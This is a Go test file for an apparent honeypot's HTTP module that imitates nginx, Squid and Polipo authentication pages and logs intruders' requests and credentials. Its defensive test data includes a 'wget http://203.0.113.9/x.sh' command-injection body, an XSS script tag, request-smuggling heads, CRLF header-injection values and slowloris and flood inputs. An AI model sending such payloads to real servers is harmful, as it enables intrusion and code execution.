package httpd

import (
	"bufio"
	"cmp"
	"errors"
	"fmt"
	"go/parser"
	"go/token"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/minipot/minipot/agent/session"
	"github.com/minipot/minipot/internal/event"
)

func TestServer401MatchesNginx(t *testing.T) {
	hs := serve(t, NewServer(Options{}), "80tcp", 80, config(false))
	status, names, ref := referenceHeaders(t, "nginx-401.headers")
	refBody, err := os.ReadFile("../../../shared/reference/nginx-401.body")
	if err != nil {
		t.Skip(err)
	}
	c := hs.dial(t)
	io.WriteString(c, "GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
	resp, err := readResponse(bufio.NewReader(c), false)
	if err != nil {
		t.Fatal(err)
	}
	if resp.status != status {
		t.Errorf("status %q, want %q", resp.status, status)
	}
	if !slices.Equal(resp.names, names) {
		t.Errorf("fields %q, want %q", resp.names, names)
	}
	for _, f := range []string{"Server", "Content-Type", "Content-Length", "Connection"} {
		if resp.headers.Get(f) != ref.Get(f) {
			t.Errorf("%s: %q, want %q", f, resp.headers.Get(f), ref.Get(f))
		}
	}
	if got := resp.headers.Get("WWW-Authenticate"); got != `Basic realm="turris"` {
		t.Errorf("challenge %q", got)
	}
	if string(resp.body) != string(refBody) {
		t.Errorf("body\n%q\nwant\n%q", resp.body, refBody)
	}
	d, err := http.ParseTime(resp.headers.Get("Date"))
	if err != nil || time.Since(d).Abs() > 5*time.Second {
		t.Errorf("date %q: %v", resp.headers.Get("Date"), err)
	}
	evs := hs.sink.Wait(t, 1)
	want := event.Event{Service: "80tcp", Port: 80, ConnID: 1, SrcIP: "127.0.0.1", Action: event.Request,
		Method: "GET", URL: "/", Host: "192.0.2.1", UserAgent: "Mozilla/5.0", Count: 1}
	got := evs[0]
	got.Time, got.SrcPort = time.Time{}, 0
	if got != want {
		t.Errorf("event\n%+v\nwant\n%+v", got, want)
	}
}

func TestProxy407MatchesSquid(t *testing.T) {
	hs := serve(t, NewProxy(Options{Port: 3128}), "3128tcp", 3128, config(false))
	status, names, ref := referenceHeaders(t, "squid-407.headers")
	for _, req := range []string{
		"GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n",
		"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n",
	} {
		c := hs.dial(t)
		io.WriteString(c, req)
		resp, err := readResponse(bufio.NewReader(c), false)
		if err != nil {
			t.Fatal(err)
		}
		if resp.status != status {
			t.Errorf("status %q, want %q", resp.status, status)
		}
		if !slices.Equal(resp.names, names) {
			t.Errorf("fields\n%q\nwant\n%q", resp.names, names)
		}
		for f, want := range map[string]string{
			"Server":             ref.Get("Server"),
			"Mime-Version":       ref.Get("Mime-Version"),
			"Content-Type":       ref.Get("Content-Type"),
			"X-Squid-Error":      ref.Get("X-Squid-Error"),
			"Vary":               ref.Get("Vary"),
			"Content-Language":   ref.Get("Content-Language"),
			"Proxy-Authenticate": `Basic realm="Squid proxy-caching web server"`,
			"X-Cache":            "MISS from turris",
			"X-Cache-Lookup":     "NONE from turris:3128",
			"Via":                "1.1 turris (squid/5.7)",
			"Connection":         "keep-alive",
		} {
			if got := resp.headers.Get(f); got != want {
				t.Errorf("%s: %q, want %q", f, got, want)
			}
		}
		if n := len(resp.body); n < 2000 || n > 4000 {
			t.Errorf("body of %d bytes, Squid's is about 3000", n)
		}
		if !strings.Contains(string(resp.body), "<title>ERROR: Cache Access Denied</title>") ||
			!strings.Contains(string(resp.body), " by turris (squid/5.7)</p>") {
			t.Errorf("body:\n%s", resp.body)
		}
	}
	evs := hs.sink.Wait(t, 2)
	slices.SortFunc(evs, func(a, b event.Event) int { return strings.Compare(a.Method, b.Method) })
	if evs[0].Method != "CONNECT" || evs[0].URL != "example.com:443" || evs[1].URL != "http://example.com/" {
		t.Errorf("events %+v", evs)
	}
}

func TestPolipo(t *testing.T) {
	hs := serve(t, NewPolipo(Options{}), "8123tcp", 8123, config(false))
	rs := hs.exchange(t, "GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n"+
		"GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nConnection: close\r\n\r\n")
	if len(rs) != 2 {
		t.Fatalf("%d responses", len(rs))
	}
	want := []string{"Connection", "Date", "Content-Type", "Content-Length", "Expires", "Cache-Control", "Pragma", "Proxy-Authenticate"}
	if rs[0].status != "HTTP/1.1 407 Proxy authentication required" || !slices.Equal(rs[0].names, want) {
		t.Errorf("got %q %q", rs[0].status, rs[0].names)
	}
	if got := rs[0].headers.Get("Proxy-Authenticate"); got != `Basic realm="Polipo"` {
		t.Errorf("challenge %q", got)
	}
	if !strings.Contains(string(rs[0].body), "by Polipo on <em>turris:8123</em>.") {
		t.Errorf("body %s", rs[0].body)
	}
	// Polipo's own pages (origin-form) ask for the server's password.
	if rs[1].status != "HTTP/1.1 401 Server authentication required" || rs[1].headers.Get("WWW-Authenticate") != `Basic realm="Polipo"` ||
		rs[1].headers.Get("Connection") != "close" {
		t.Errorf("got %q", rs[1].raw)
	}
}

// Basic credentials become a login event, with or without the secrets.
func TestBasicCredentials(t *testing.T) {
	tests := []struct {
		name    string
		proxy   bool
		creds   bool
		request func(addr string) (*http.Response, error)
	}{
		{name: "server", creds: true, request: func(addr string) (*http.Response, error) {
			return http.Get("http://admin:s3cret@" + addr + "/cgi-bin/luci")
		}},
		{name: "server without credentials", request: func(addr string) (*http.Response, error) {
			return http.Get("http://admin:s3cret@" + addr + "/cgi-bin/luci")
		}},
		{name: "proxy", proxy: true, creds: true, request: func(addr string) (*http.Response, error) {
			tr := &http.Transport{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: addr, User: url.UserPassword("admin", "s3cret")})}
			defer tr.CloseIdleConnections()
			return (&http.Client{Transport: tr}).Get("http://example.invalid/cgi-bin/luci")
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h, svc, want := NewServer(Options{}), "80tcp", 401
			wantURL := "/cgi-bin/luci"
			if tt.proxy {
				h, svc, want = NewProxy(Options{}), "3128tcp", 407
				wantURL = "http://example.invalid/cgi-bin/luci"
			}
			hs := serve(t, h, svc, 80, config(tt.creds))
			resp, err := tt.request(hs.addr)
			if err != nil {
				t.Fatal(err)
			}
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if resp.StatusCode != want {
				t.Fatalf("status %d", resp.StatusCode)
			}
			ev := hs.sink.Wait(t, 1)[0]
			wantUser, wantPass := "", ""
			if tt.creds {
				wantUser, wantPass = "admin", "s3cret"
			}
			if ev.Action != event.Login || ev.Username != wantUser || ev.Password != wantPass || ev.URL != wantURL {
				t.Fatalf("event %+v", ev)
			}
		})
	}
}

// A proxy records Proxy-Authorization, not the Authorization meant for
// the site it is asked for; broken credentials are an invalid event but
// the conversation goes on.
func TestCredentialFields(t *testing.T) {
	basic := "Basic YWRtaW46YWRtaW4=" // admin:admin
	tests := []struct {
		name, req string
		proxy     bool
		action    event.Action
		user      string
		detail    string
		n         int // answers: 1 when the first closes
	}{
		{"server authorization", "GET / HTTP/1.1\r\nHost: x\r\nAuthorization: " + basic + "\r\n\r\n", false, event.Login, "admin", "", 2},
		{"server ignores proxy-authorization", "GET / HTTP/1.1\r\nHost: x\r\nProxy-Authorization: " + basic + "\r\n\r\n", false, event.Request, "", "", 2},
		{"proxy proxy-authorization", "GET http://a/ HTTP/1.1\r\nProxy-Authorization: " + basic + "\r\n\r\n", true, event.Login, "admin", "", 2},
		{"proxy ignores site authorization", "GET http://a/ HTTP/1.1\r\nAuthorization: " + basic + "\r\n\r\n", true, event.Request, "", "", 2},
		{"proxy origin-form authorization", "GET / HTTP/1.1\r\nHost: x\r\nAuthorization: " + basic + "\r\n\r\n", true, event.Login, "admin", "", 1},
		{"bad base64", "GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Basic YWRtaW46YWRtaW4\r\n\r\n", false, event.Invalid, "", "malformed Basic credentials", 2},
		{"no colon", "GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Basic YWRtaW4=\r\n\r\n", false, event.Invalid, "", "malformed Basic credentials", 2},
		{"other scheme", "GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer abc.def\r\n\r\n", false, event.Request, "", "auth scheme Bearer", 2},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var h session.Handler = NewServer(Options{})
			if tt.proxy {
				h = NewProxy(Options{})
			}
			hs := serve(t, h, "80tcp", 80, config(true))
			// A second request shows the connection survived; it differs
			// from the first, which it would otherwise repeat.
			rs := hs.exchange(t, tt.req+"GET /again HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
			if len(rs) != tt.n {
				t.Fatalf("%d responses", len(rs))
			}
			ev := hs.sink.Wait(t, len(rs))[0]
			if ev.Action != tt.action || ev.Username != tt.user || ev.Detail != tt.detail {
				t.Fatalf("event %+v", ev)
			}
		})
	}
}

func TestKeepAliveLimit(t *testing.T) {
	cfg := config(false)
	cfg.Limits.Requests = 3
	hs := serve(t, NewServer(Options{}), "80tcp", 80, cfg)
	c := hs.dial(t)
	r := bufio.NewReader(c)
	var conns []string
	for i := range 3 {
		fmt.Fprintf(c, "GET /%d HTTP/1.1\r\nHost: x\r\n\r\n", i)
		resp, err := readResponse(r, false)
		if err != nil {
			t.Fatal(err)
		}
		conns = append(conns, resp.headers.Get("Connection"))
	}
	if !slices.Equal(conns, []string{"keep-alive", "keep-alive", "close"}) {
		t.Errorf("Connection: %q", conns)
	}
	if _, err := r.ReadByte(); err != io.EOF {
		t.Errorf("after the last: %v", err)
	}
	if err := hs.serveErr(t); !errors.Is(err, session.ErrLimit) || session.Reason(err) != event.ReasonLimit {
		t.Errorf("Serve: %v", err)
	}
}

func TestPipelining(t *testing.T) {
	hs := serve(t, NewServer(Options{}), "80tcp", 80, config(false))
	var req strings.Builder
	for i := range 8 {
		fmt.Fprintf(&req, "GET /%d HTTP/1.1\r\nHost: x\r\n\r\n", i)
	}
	req.WriteString("HEAD /h HTTP/1.1\r\nHost: x\r\n\r\n")
	req.WriteString("POST /p HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n\r\nbodyGET /last HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
	c := hs.dial(t)
	io.WriteString(c, req.String())
	r := bufio.NewReader(c)
	for i := range 11 {
		resp, err := readResponse(r, i == 8)
		if err != nil {
			t.Fatalf("response %d: %v", i, err)
		}
		if !strings.HasPrefix(resp.status, "HTTP/1.1 401 ") {
			t.Fatalf("response %d: %q", i, resp.status)
		}
	}
	if _, err := r.ReadByte(); err != io.EOF {
		t.Errorf("after the last: %v", err)
	}
	evs := hs.sink.Wait(t, 11)
	var urls []string
	for _, e := range evs {
		urls = append(urls, e.URL)
	}
	if want := "/0 /1 /2 /3 /4 /5 /6 /7 /h /p /last"; strings.Join(urls, " ") != want {
		t.Errorf("urls %q", urls)
	}
	if evs[9].Body != "body" {
		t.Errorf("body %q", evs[9].Body)
	}
	if err := hs.serveErr(t); err != nil {
		t.Errorf("Serve: %v", err)
	}
}

func TestHTTP10(t *testing.T) {
	hs := serve(t, NewServer(Options{}), "80tcp", 80, config(false))
	rs := hs.exchange(t, "GET /a HTTP/1.0\r\nConnection: keep-alive\r\n\r\nGET /b HTTP/1.0\r\n\r\nGET /never HTTP/1.0\r\n\r\n")
	if len(rs) != 2 || rs[0].headers.Get("Connection") != "keep-alive" || rs[1].headers.Get("Connection") != "close" {
		t.Fatalf("responses %+v", rs)
	}
	if rs[0].status != "HTTP/1.1 401 Unauthorized" {
		t.Errorf("status %q", rs[0].status)
	}
}

func TestHTTP09(t *testing.T) {
	hs := serve(t, NewServer(Options{}), "80tcp", 80, config(false))
	c := hs.dial(t)
	io.WriteString(c, "GET /\r\n")
	b, _ := io.ReadAll(c)
	if !strings.HasPrefix(string(b), "<html>\r\n<head><title>401 Authorization Required</title>") {
		t.Errorf("got %q", b)
	}
}

func TestProxyTargets(t *testing.T) {
	tests := []struct {
		name, req, status, url string
		closes                 bool
	}{
		{"absolute", "GET http://198.51.100.7:8080/x?y HTTP/1.1\r\nHost: 198.51.100.7:8080\r\n\r\n", "407", "http://198.51.100.7:8080/x?y", false},
		{"absolute https", "GET https://a.example/ HTTP/1.1\r\n\r\n", "407", "https://a.example/", false},
		{"connect", "CONNECT smtp.example:25 HTTP/1.0\r\n\r\n", "407", "smtp.example:25", true},
		{"origin-form", "GET / HTTP/1.1\r\nHost: x\r\n\r\n", "400", "/", true},
		{"head", "HEAD http://a.example/ HTTP/1.1\r\n\r\n", "407", "http://a.example/", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hs := serve(t, NewProxy(Options{}), "8080tcp", 8080, config(false))
			c := hs.dial(t)
			io.WriteString(c, tt.req)
			resp, err := readResponse(bufio.NewReader(c), tt.name == "head")
			if err != nil {
				t.Fatal(err)
			}
			if !strings.HasPrefix(resp.status, "HTTP/1.1 "+tt.status+" ") || (resp.headers.Get("Connection") == "close") != tt.closes {
				t.Errorf("got %q, Connection %q", resp.status, resp.headers.Get("Connection"))
			}
			if tt.status == "400" && resp.headers.Get("X-Squid-Error") != "ERR_INVALID_URL 0" {
				t.Errorf("X-Squid-Error %q", resp.headers.Get("X-Squid-Error"))
			}
			if ev := hs.sink.Wait(t, 1)[0]; ev.URL != tt.url || ev.Action != event.Request {
				t.Errorf("event %+v", ev)
			}
		})
	}
}

// The target is written into Squid's page, escaped, and the length fits.
func TestProxyPageEscapes(t *testing.T) {
	hs := serve(t, NewProxy(Options{}), "3128tcp", 3128, config(false))
	c := hs.dial(t)
	io.WriteString(c, "GET http://a/<script>alert(\"&\")</script> HTTP/1.1\r\n\r\n")
	resp, err := readResponse(bufio.NewReader(c), false)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(resp.body), "<script>") || !strings.Contains(string(resp.body), "http://a/&#60;script&#62;") {
		t.Errorf("body %s", resp.body)
	}
}

// Whatever a proxy is asked, it connects nowhere.
func TestProxyNeverDials(t *testing.T) {
	target, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer target.Close()
	dialed := make(chan net.Conn, 10)
	go func() {
		for {
			c, err := target.Accept()
			if err != nil {
				return
			}
			dialed <- c
		}
	}()
	ta := target.Addr().String()
	for _, h := range []*Handler{NewProxy(Options{}), NewPolipo(Options{})} {
		hs := serve(t, h, "3128tcp", 3128, config(true))
		creds := "Proxy-Authorization: Basic " + "YWRtaW46YWRtaW4=\r\n"
		rs := hs.exchange(t, "GET http://"+ta+"/ HTTP/1.1\r\nHost: "+ta+"\r\n"+creds+"\r\n"+
			"POST http://"+ta+"/x HTTP/1.1\r\nHost: "+ta+"\r\nContent-Length: 3\r\n"+creds+"\r\nabc"+
			"CONNECT "+ta+" HTTP/1.1\r\nHost: "+ta+"\r\n"+creds+"\r\n"+
			"GET / HTTP/1.1\r\nHost: "+ta+"\r\n\r\n")
		if len(rs) != 4 {
			t.Fatalf("%d responses", len(rs))
		}
		for _, r := range rs[:3] {
			if !strings.Contains(r.status, " 407 ") {
				t.Errorf("status %q", r.status)
			}
		}
		// With the right password as far as the client knows, too.
		resp, err := (&http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: hs.addr, User: url.UserPassword("root", "root")})}}).Get("http://" + ta + "/")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
	}
	select {
	case c := <-dialed:
		c.Close()
		t.Fatal("the proxy connected to the target")
	case <-time.After(300 * time.Millisecond):
	}
}

func TestServerOddRequests(t *testing.T) {
	tests := []struct {
		name, req, status string
		n                 int // responses
	}{
		{"connect", "CONNECT a.example:443 HTTP/1.1\r\nHost: a.example:443\r\n\r\n\x16\x03\x01", "405", 1},
		{"trace keeps", "TRACE / HTTP/1.1\r\nHost: x\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", "405", 2},
		{"absolute-form", "GET http://192.0.2.1/ HTTP/1.1\r\nHost: 192.0.2.1\r\nConnection: close\r\n\r\n", "401", 1},
		{"expect 100-continue", "POST /upload HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\nExpect: 100-continue\r\n\r\n", "401", 1},
		{"http/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "505", 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hs := serve(t, NewServer(Options{}), "80tcp", 80, config(false))
			rs := hs.exchange(t, tt.req)
			if len(rs) != tt.n || !strings.Contains(rs[0].status, " "+tt.status+" ") {
				t.Fatalf("got %d responses, first %q", len(rs), rs[0].status)
			}
		})
	}
}

// Bodies are skipped, and their beginning recorded.
func TestBodies(t *testing.T) {
	payload := "cmd=" + strings.Repeat("wget http://203.0.113.9/x.sh;", 10)
	chunkedBody := "5\r\nhello\r\n7;ext=\"v\"\r\n, world\r\n0\r\nX-Trailer: t\r\n\r\n"
	tests := []struct {
		name, req string
		body      string // excerpt recorded
		status    string
		n         int
		reason    string
		action    event.Action // when not request
	}{
		{name: "content-length", req: "POST /cgi-bin/x HTTP/1.1\r\nHost: x\r\nContent-Length: " + strconv.Itoa(len(payload)) + "\r\n\r\n" + payload,
			body: payload[:64], status: "401", n: 2},
		{name: "chunked", req: "POST /x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" + chunkedBody,
			body: "hello, world", status: "401", n: 2},
		{name: "too large", req: "POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n" + payload,
			body: payload[:64], status: "401", n: 1, reason: event.ReasonLimit},
		{name: "chunked too large", req: "POST /x HTTP/1.1\r\nHost: x\r\nAuthorization: Basic YTpi\r\nTransfer-Encoding: chunked\r\n\r\n10\r\n0123456789abcdef\r\nffffff\r\n",
			body: "0123456789abcdef", status: "401", n: 1, reason: event.ReasonLimit, action: event.Login},
		{name: "broken chunk", req: "POST /x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
			status: "400", n: 1, reason: event.ReasonClosed},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hs := serve(t, NewServer(Options{}), "80tcp", 80, config(false))
			rs := hs.exchange(t, tt.req+"GET /next HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
			if len(rs) != tt.n || !strings.Contains(rs[0].status, " "+tt.status+" ") {
				t.Fatalf("%d responses, first %q", len(rs), rs[0].status)
			}
			if tt.n == 1 && rs[0].headers.Get("Connection") != "close" {
				t.Errorf("Connection %q", rs[0].headers.Get("Connection"))
			}
			ev := hs.sink.Wait(t, 1)[0]
			if ev.Body != tt.body {
				t.Errorf("body %q, want %q", ev.Body, tt.body)
			}
			if want := cmp.Or(tt.action, event.Request); tt.status == "401" && ev.Action != want {
				t.Errorf("action %q, want %q", ev.Action, want)
			}
			if tt.reason != "" {
				if got := session.Reason(hs.serveErr(t)); got != tt.reason {
					t.Errorf("reason %q", got)
				}
			}
		})
	}
}

// Broken, oversized and hostile heads: the right refusal, one invalid
// event, a close.
func TestRefusals(t *testing.T) {
	long := "GET /" + strings.Repeat("A", 2000) + " HTTP/1.1\r\nHost: x\r\n\r\n"
	big := "GET / HTTP/1.1\r\nHost: x\r\nCookie: " + strings.Repeat("c", 5000) + "\r\n\r\n"
	many := "GET / HTTP/1.1\r\nHost: x\r\n" + strings.Repeat("X-A: b\r\n", 40) + "\r\n"
	tests := []struct {
		name, req   string
		flavor      string
		status      string
		squidError  string
		detail      string
		reason      string
		method, url string
		raw         bool // the event keeps the raw bytes
	}{
		{name: "garbage", req: "\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03", flavor: "nginx", status: "400", detail: "not an HTTP request", reason: event.ReasonClosed, raw: true},
		{name: "garbage squid", req: "\x00\xff\xfe binary", flavor: "squid", status: "400", squidError: "ERR_PROTOCOL_UNKNOWN 0", detail: "not an HTTP request", reason: event.ReasonClosed, raw: true},
		{name: "long line", req: long, flavor: "nginx", status: "414", detail: "request line too long", reason: event.ReasonLimit, method: "GET", url: "/" + strings.Repeat("A", 1019)},
		{name: "long line squid", req: long, flavor: "squid", status: "414", squidError: "ERR_TOO_BIG 0", detail: "request line too long", reason: event.ReasonLimit, method: "GET", url: "/" + strings.Repeat("A", 1019)},
		{name: "big headers", req: big, flavor: "nginx", status: "431", detail: "request headers too large", reason: event.ReasonLimit, method: "GET", url: "/"},
		{name: "many headers squid", req: many, flavor: "squid", status: "431", squidError: "ERR_TOO_BIG 0", detail: "too many request headers", reason: event.ReasonLimit, method: "GET", url: "/"},
		{name: "smuggling", req: "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", flavor: "nginx", status: "400", detail: "Content-Length with Transfer-Encoding", reason: event.ReasonClosed, method: "POST", url: "/"},
		{name: "smuggling squid", req: "POST http://a/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n", flavor: "squid", status: "400", squidError: "ERR_INVALID_REQ 0", detail: "duplicate Transfer-Encoding", reason: event.ReasonClosed, method: "POST", url: "http://a/"},
		{name: "smuggling polipo", req: "POST http://a/ HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n", flavor: "polipo", status: "503", detail: "duplicate Content-Length", reason: event.ReasonClosed, method: "POST", url: "http://a/"},
		{name: "version", req: "GET / HTTP/3.0\r\n\r\n", flavor: "squid", status: "505", squidError: "ERR_UNSUP_HTTPVERSION 0", detail: "unsupported HTTP version", reason: event.ReasonClosed, method: "GET", url: "/"},
		{name: "no host", req: "GET / HTTP/1.1\r\n\r\n", flavor: "nginx", status: "400", detail: "HTTP/1.1 request without Host", reason: event.ReasonClosed, method: "GET", url: "/"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := map[string]*Handler{"nginx": NewServer(Options{}), "squid": NewProxy(Options{}), "polipo": NewPolipo(Options{})}[tt.flavor]
			hs := serve(t, h, "80tcp", 80, config(false))
			rs := hs.exchange(t, tt.req)
			if len(rs) != 1 {
				t.Fatalf("%d responses", len(rs))
			}
			r := rs[0]
			if !strings.Contains(r.status, " "+tt.status+" ") || r.headers.Get("Connection") != "close" {
				t.Errorf("got %q, Connection %q", r.status, r.headers.Get("Connection"))
			}
			if tt.squidError != "" && r.headers.Get("X-Squid-Error") != tt.squidError {
				t.Errorf("X-Squid-Error %q", r.headers.Get("X-Squid-Error"))
			}
			if tt.flavor == "nginx" && !strings.Contains(string(r.body), "<title>"+tt.status+" ") {
				t.Errorf("body %q", r.body)
			}
			if got := session.Reason(hs.serveErr(t)); got != tt.reason {
				t.Errorf("reason %q, want %q", got, tt.reason)
			}
			evs := hs.sink.All()
			if len(evs) != 1 {
				t.Fatalf("events %+v", evs)
			}
			ev := evs[0]
			if ev.Action != event.Invalid || ev.Detail != tt.detail || ev.Method != tt.method || ev.URL != tt.url {
				t.Errorf("event %+v", ev)
			}
			if tt.raw && (ev.Body == "" || !strings.HasPrefix(tt.req, ev.Body)) {
				t.Errorf("raw excerpt %q", ev.Body)
			}
		})
	}
}

// A client that trickles a head is cut off by the idle timeout, and
// recorded.
func TestSlowloris(t *testing.T) {
	cfg := config(false)
	cfg.Limits.Idle = 200 * time.Millisecond
	hs := serve(t, NewServer(Options{}), "80tcp", 80, cfg)
	c := hs.dial(t)
	start := time.Now()
	io.WriteString(c, "GET /slow HTTP/1.1\r\nHost: x\r\n")
	for range 3 {
		time.Sleep(100 * time.Millisecond)
		io.WriteString(c, "X-a: b\r\n") // within the idle timeout: still open
	}
	b, err := io.ReadAll(c) // the server gives up 200 ms after the last
	if err != nil || len(b) != 0 {
		t.Errorf("read %q, %v", b, err)
	}
	if d := time.Since(start); d > 2*time.Second {
		t.Errorf("closed after %v", d)
	}
	if got := session.Reason(hs.serveErr(t)); got != event.ReasonTimeout {
		t.Errorf("reason %q", got)
	}
	ev := hs.sink.Wait(t, 1)[0]
	if ev.Action != event.Invalid || ev.Detail != "incomplete request" || ev.URL != "/slow" {
		t.Errorf("event %+v", ev)
	}
}

// A session's end cuts a connection that keeps trickling.
func TestSessionLimit(t *testing.T) {
	cfg := config(false)
	cfg.Limits.Idle, cfg.Limits.Session = time.Second, 300*time.Millisecond
	hs := serve(t, NewServer(Options{}), "80tcp", 80, cfg)
	c := hs.dial(t)
	go func() {
		for range 20 {
			if _, err := io.WriteString(c, "\r\n"); err != nil {
				return
			}
			time.Sleep(50 * time.Millisecond)
		}
	}()
	if got := session.Reason(hs.serveErr(t)); got != event.ReasonTimeout {
		t.Errorf("reason %q", got)
	}
}

// A 10 MB header line costs the server a bounded buffer, not 10 MB.
func TestHugeHeaderLine(t *testing.T) {
	hs := serve(t, NewServer(Options{}), "80tcp", 80, config(false))
	huge := make([]byte, 10<<20)
	copy(huge, "GET / HTTP/1.1\r\nHost: x\r\nX-Long: ")
	for i := 32; i < len(huge); i++ {
		huge[i] = 'a'
	}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	c := hs.dial(t)
	go c.Write(huge) // fails once the server closes
	rs := readAll(t, c)
	if len(rs) != 1 || !strings.Contains(rs[0].status, " 431 ") {
		t.Fatalf("responses %+v", rs)
	}
	hs.serveErr(t)
	runtime.ReadMemStats(&after)
	if d := after.TotalAlloc - before.TotalAlloc; d > 1<<20 {
		t.Errorf("allocated %d bytes", d)
	}
}

// A stream of garbage, in any amount, ends in one refusal.
func TestGarbageStream(t *testing.T) {
	hs := serve(t, NewProxy(Options{}), "8080tcp", 8080, config(false))
	c := hs.dial(t)
	junk := make([]byte, 1<<20)
	for i := range junk {
		junk[i] = byte(i*7 + i>>8)
	}
	go c.Write(junk)
	rs := readAll(t, c)
	if len(rs) != 1 || !strings.Contains(rs[0].status, " 400 ") {
		t.Fatalf("responses %+v", rs)
	}
	if evs := hs.sink.Wait(t, 1); len(evs) != 1 || evs[0].Action != event.Invalid {
		t.Fatalf("events %+v", evs)
	}
}

// net/http's server and client agree with ours on the framing, so a real
// client gets through keep-alive, bodies and redirects of its own.
func TestHTTPClient(t *testing.T) {
	// Credentials collected, so the bodies are kept as sent (session
	// empties credential-like fields otherwise).
	hs := serve(t, NewServer(Options{}), "80tcp", 80, config(true))
	client := &http.Client{Transport: &http.Transport{MaxConnsPerHost: 1}}
	defer client.CloseIdleConnections()
	for i := range 5 {
		resp, err := client.Post("http://"+hs.addr+"/login", "application/x-www-form-urlencoded", strings.NewReader("user=admin&pass="+strconv.Itoa(i)))
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 401 || resp.Header.Get("WWW-Authenticate") == "" {
			t.Fatalf("response %+v", resp)
		}
	}
	evs := hs.sink.Wait(t, 5)
	for i, ev := range evs {
		if ev.ConnID != 1 || ev.Body != "user=admin&pass="+strconv.Itoa(i) || !strings.HasPrefix(ev.UserAgent, "Go-http-client") {
			t.Errorf("event %+v", ev)
		}
	}
}

// An idle kept-alive connection costs little, even after a request that
// needed the large buffer.
func TestIdleMemory(t *testing.T) {
	const n = 300
	hs := serve(t, NewProxy(Options{}), "3128tcp", 3128, config(false))
	req := "GET http://a.example/ HTTP/1.1\r\nCookie: " + strings.Repeat("c", 3000) + "\r\n\r\n"
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	conns := make([]net.Conn, n)
	for i := range conns {
		c := hs.dial(t)
		io.WriteString(c, req)
		if _, err := readResponse(bufio.NewReader(c), false); err != nil {
			t.Fatal(err)
		}
		conns[i] = c
	}
	hs.sink.Wait(t, n)
	runtime.GC()
	runtime.ReadMemStats(&after)
	used := int64(after.HeapInuse+after.StackInuse) - int64(before.HeapInuse+before.StackInuse)
	per := used / n
	t.Logf("%d bytes per idle connection (both ends, goroutine stacks included)", per)
	if per > 32<<10 {
		t.Errorf("%d bytes per idle connection", per)
	}
}

func TestForService(t *testing.T) {
	for key, want := range map[string]string{
		"80tcp":   "HTTP/1.1 401 Unauthorized",
		"3128tcp": "HTTP/1.1 407 Proxy Authentication Required",
		"8080tcp": "HTTP/1.1 407 Proxy Authentication Required",
		"8123tcp": "HTTP/1.1 407 Proxy authentication required",
	} {
		h := ForService(key, 8080)
		hs := serve(t, h, key, 8080, config(false))
		rs := hs.exchange(t, "GET http://a.example/ HTTP/1.1\r\nHost: a.example\r\nConnection: close\r\n\r\n")
		if len(rs) != 1 || rs[0].status != want {
			t.Errorf("%s: %+v", key, rs)
		}
	}
	if h := ForService("23tcp", 23); h != nil {
		t.Errorf("telnet: %v", h)
	}
}

// Options are cleaned of what could break a header.
func TestOptions(t *testing.T) {
	h := NewServer(Options{Server: "Apache\r\nX-Evil: 1", Realm: `Router "admin"` + "\n"})
	hs := serve(t, h, "80tcp", 80, config(false))
	rs := hs.exchange(t, "GET / HTTP/1.0\r\n\r\n")
	if len(rs) != 1 || rs[0].headers.Get("Server") != "ApacheX-Evil: 1" || rs[0].headers.Get("WWW-Authenticate") != `Basic realm="Router admin"` {
		t.Errorf("got %q", rs[0].raw)
	}
	// The host name from the settings, too.
	cfg := config(false)
	cfg.Hostname = "evil\r\nSet-Cookie: x"
	hs = serve(t, NewProxy(Options{}), "3128tcp", 3128, cfg)
	rs = hs.exchange(t, "GET http://a/ HTTP/1.0\r\n\r\n")
	if len(rs) != 1 || rs[0].headers.Get("Via") != "1.1 evilSet-Cookiex (squid/5.7)" {
		t.Errorf("got %q", rs[0].raw)
	}
}

